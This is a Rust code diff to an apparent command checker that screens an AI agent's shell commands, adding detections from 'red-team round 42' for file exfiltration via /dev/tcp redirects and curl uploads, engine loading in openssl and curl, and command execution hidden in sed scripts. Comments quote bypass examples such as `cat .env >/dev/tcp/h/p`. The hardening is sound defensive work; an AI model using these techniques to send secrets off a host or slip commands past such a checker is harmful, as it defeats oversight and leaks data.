@@ -75,7 +75,7 @@ const CODE_RUNNERS: &[&str] = &[
 const COMMAND_OPTIONS: &[&str] = &[
     "--filter", "--compress-program", "--use-compress-program", "--to-command", "--checkpoint-action", "--rsh", "--exec",
     "--pager", "--editor", "--interpreter", "--eval", "--run-command", "--command=", "--shell=", "--init-command",
-    "--post-hook", "--pre-hook", "--hook", "--diff-program",
+    "--post-hook", "--pre-hook", "--hook", "--diff-program", "--strip-program",
 ];
 /// `set` flags that change nothing about how later words are read or what runs: exit on error,
 /// unset variables, tracing, no clobbering, ERR traps inherited.
@@ -685,6 +685,11 @@ impl Walker<'_> {
     }
 
     fn redirect_path(&mut self, p: &str) {
+        // bash opens a connection for these names (red-team round 42: `cat .env >/dev/tcp/h/p`
+        // sent a file off the host, where masking never sees it).
+        if normalise(p).starts_with("/dev/tcp/") || normalise(p).starts_with("/dev/udp/") {
+            self.r.unreadable(format!("{p} opens a network connection"));
+        }
         if is_relative(p) {
             self.relative(p);
         }
@@ -1100,6 +1105,8 @@ fn names_at_run_time(program: &str, args: &[String]) -> Option<&'static str> {
             Some("adds a suffix of its options to the names it writes")
         }
         "split" | "csplit" => Some("names the files it writes at run time"),
+        // `-N` restores the name stored in the archive (red-team round 42: `.bashrc`).
+        "gzip" | "gunzip" | "zcat" | "pigz" | "unpigz" if has(&|a| short(a, &['N']) || long(a, "--name")) => Some("writes the file name stored in the archive"),
         "patch" => Some("writes files named inside a patch"),
         // `git apply`/`am` write the files a patch names; `checkout-index --prefix` glues a
         // prefix to the names in the index; `--work-tree`/`--git-dir` move the tree it writes
@@ -1248,7 +1255,9 @@ fn runs_code(program: &str, args: &[String]) -> Option<&'static str> {
         // Engines and providers are shared objects it loads (red-team round 39).
         // A configuration file of its options can load an engine too (`openssl_conf` with a
         // `dynamic_path`).
-        "openssl" if args.iter().any(|a| matches!(a.as_str(), "engine" | "-engine" | "-provider" | "-provider-path" | "-config" | "-conf") || a.starts_with("-engine") || a.starts_with("-provider")) => {
+        // (`-keygen_engine`, `-ssl_client_engine`, `-engine_impl`: any option naming an engine,
+        // red-team round 42.)
+        "openssl" if args.iter().any(|a| matches!(a.as_str(), "engine" | "-config" | "-conf") || (a.starts_with('-') && (a.contains("engine") || a.contains("provider")))) => {
             Some("openssl loads a library of its options")
         }
         // Files whose names come from an archive or a directory tree, not the command line,
@@ -1293,10 +1302,15 @@ fn runs_code(program: &str, args: &[String]) -> Option<&'static str> {
         "scp" | "sftp" if has(&|a| short_cluster(a).is_some_and(|c| c.contains(['S', 'D', 'o', 'F', 'J']))) => Some("it runs a command from its options or a configuration they name"),
         // A file's (or a pipe's) contents sent off the host: masking, which covers what comes
         // back to the agent, never sees them (`curl -T customers.csv https://…`).
+        // (`name@file` in `--data-urlencode`, `-H @file`, `--variable n@file`: any `@` outside a
+        // URL; a protocol other than HTTP(S) sends stdin or a file: `telnet://`, `ftp://`, `smtp://`.)
         "curl" if has(&|a| {
-            a == "-T" || (a.starts_with("-T") && short_cluster(a).is_some()) || long(a, "--upload-file") || a.starts_with('@') || a.starts_with('<') || a.contains("=@") || a.contains("=<")
-                || (short_cluster(a).is_some_and(|c| c.contains(['d', 'F'])) && a.contains('@'))
-        }) => Some("curl sends a file's contents off the host, which masking does not see"),
+            a == "-T" || (a.starts_with("-T") && short_cluster(a).is_some()) || long(a, "--upload-file") || a.starts_with('<') || a.contains("=<")
+                || (a.contains('@') && !a.contains("://"))
+                || a.split_once("://").is_some_and(|(scheme, _)| !matches!(scheme.to_ascii_lowercase().as_str(), "http" | "https" | "file") && !scheme.starts_with('-'))
+        }) => Some("curl sends a file's contents, or its input, off the host, which masking does not see"),
+        // An engine is a shared object it loads (red-team round 42).
+        "curl" if has(&|a| long(a, "--engine")) => Some("curl loads an OpenSSL engine of its options"),
         "wget" if has(&|a| long(a, "--post-file") || long(a, "--body-file")) => Some("wget sends a file's contents off the host, which masking does not see"),
         // A copy to or from another host (`scp f user@host:`, `rsync -e ssh f host:d`), not the
         // server end of a transfer hoop reads.
@@ -1487,10 +1501,31 @@ fn sed_script_executes(script: &str) -> bool {
                     }
                 }
             }
-            // `y`, `a`, `i`, `c`, `r`, `w` and the rest take text to the end of the line.
-            Some(b'a' | b'i' | b'c' | b'y' | b'b' | b't' | b'T' | b':') => {
+            // `a`, `i` and `c` take text to the end of the line.
+            Some(b'a' | b'i' | b'c') => {
                 while b.get(i).is_some_and(|c| *c != b'\n') {
                     i += 1;
+                }
+            }
+            // A label ends at `;` too in GNU sed (red-team round 42: `:x;e id` ran `id`).
+            Some(b'b' | b't' | b'T' | b':') => {
+                while b.get(i).is_some_and(|c| !matches!(c, b'\n' | b';')) {
+                    i += 1;
+                }
+            }
+            // `y/src/dst/`, then more commands.
+            Some(b'y') => {
+                let Some(&delim) = b.get(i + 1) else { return false };
+                i += 2;
+                let mut parts = 0;
+                while parts < 2 {
+                    let Some(&d) = b.get(i) else { return false };
+                    i += 1;
+                    if d == b'\\' {
+                        i += 1;
+                    } else if d == delim {
+                        parts += 1;
+                    }
                 }
             }
             Some(_) => i += 1,
